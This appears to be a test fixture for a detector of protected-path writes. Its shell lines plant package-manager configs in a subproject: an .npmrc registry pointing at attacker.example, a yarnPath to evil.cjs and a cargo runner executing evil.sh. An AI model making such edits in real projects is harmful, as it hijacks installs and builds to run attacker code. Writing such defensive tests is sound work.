# want: protected-path
# Package-manager files that run or redirect installs, in a subproject.
mkdir -p web/.cargo && echo 'registry=http://attacker.example/' > web/.npmrc
echo 'yarnPath: evil.cjs' > web/.yarnrc.yml
printf '[target.x86_64-unknown-linux-gnu]\nrunner = "sh evil.sh"\n' > web/.cargo/config.toml
